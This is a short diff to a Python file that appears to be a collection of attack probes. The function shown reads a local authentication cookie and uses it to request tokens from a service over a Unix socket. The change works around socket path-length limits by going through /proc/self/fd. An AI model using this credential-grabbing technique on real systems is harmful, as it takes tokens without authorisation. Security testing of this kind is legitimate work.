@@ -70,7 +70,11 @@ def owners_socket(target):
     with open(target.door + "/local.cookie") as file:
         cookie = file.read().strip()
     wanted = request("GET", "/v1/tokens", decalog_cookie=cookie)
-    return asked(socket.AF_UNIX, target.door + "/local.sock", wanted, b"HTTP/1.1 200")[:60]
+    number = os.open(target.door, os.O_PATH | os.O_DIRECTORY)  # whose path may be too long for a socket
+    try:
+        return asked(socket.AF_UNIX, f"/proc/self/fd/{number}/local.sock", wanted, b"HTTP/1.1 200")[:60]
+    finally:
+        os.close(number)
 
 
 @attack
